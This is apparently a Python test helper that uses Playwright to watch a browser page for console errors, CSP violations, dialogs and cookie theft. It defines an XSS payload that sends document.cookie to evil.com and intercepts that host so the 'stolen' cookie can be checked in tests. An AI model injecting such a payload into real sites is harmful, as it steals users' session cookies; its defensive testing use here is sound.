"""What a browser saw: console errors, policy violations, dialogs, stolen cookies."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from urllib.parse import parse_qs, urlsplit

# The guide's own payload.
STEAL = '<script>fetch("https://evil.com/steal?cookie=" + document.cookie)</script>'

_WATCH_POLICY = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
    window.__violations.push(event.effectiveDirective + " " + event.blockedURI));
"""

SEND = """async ([path, fields]) => {
    const answer = await fetch(path, {
        method: "POST",
        headers: {"content-type": "application/json"},
        body: JSON.stringify(fields),
    });
    return answer.status;
}"""

_BACKGROUND = """() => {
    const of = (it) => getComputedStyle(it).backgroundColor;
    const clear = of(document.body) === "rgba(0, 0, 0, 0)";
    return of(clear ? document.documentElement : document.body);
}"""

_WIDTHS = "[document.documentElement.scrollWidth, window.innerWidth]"


@dataclass
class Witness:
    """One browser profile with one page, and what happened in it.

    Args:
        context: Playwright's; cookies are shared by its page and its ``request``.
    """

    context: object
    page: object = None
    errors: list[str] = field(default_factory=list)
    heard: list[str] = field(default_factory=list)
    stolen: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)

    def __post_init__(self):
        self.context.add_init_script(_WATCH_POLICY)
        self.context.route("https://evil.com/**", self._steal)
        self.page = self.context.new_page()
        self.page.on("console", self._hear)
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("dialog", self._dismiss)

    def violations(self) -> list[str]:
        """Return what the page's Content-Security-Policy has refused."""
        return self.page.evaluate("window.__violations")

    def goto(self, path: str, *, until: str = "load"):
        """Open a page; ``until="networkidle"`` waits for what its scripts fetch."""
        return self.page.goto(path, wait_until=until)

    def send(self, path: str, **fields: str) -> int:
        """Send JSON from the page itself, as its own script would; return the status.

        Cookies arrive as the server set them: Playwright's own requests would give a
        cookie without SameSite the value Lax.
        """
        return self.page.evaluate(SEND, [path, fields])

    def background(self) -> float:
        """Return how bright the page's background is: 0 is black, 765 white."""
        color = self.page.evaluate(_BACKGROUND)
        return sum(float(number) for number in re.findall(r"[\d.]+", color)[:3])

    def width(self) -> tuple[int, int]:
        """Return how wide the page is, and how wide the window."""
        return tuple(self.page.evaluate(_WIDTHS))

    def _steal(self, route):
        query = parse_qs(urlsplit(route.request.url).query, keep_blank_values=True)
        self.stolen.append(query.get("cookie", [""])[0])
        route.fulfill(status=200, body="")

    def _hear(self, message):
        self.heard.append(message.text)
        if message.type == "error":
            self.errors.append(message.text)

    def _dismiss(self, dialog):
        self.dialogs.append(dialog.message)
        dialog.dismiss()
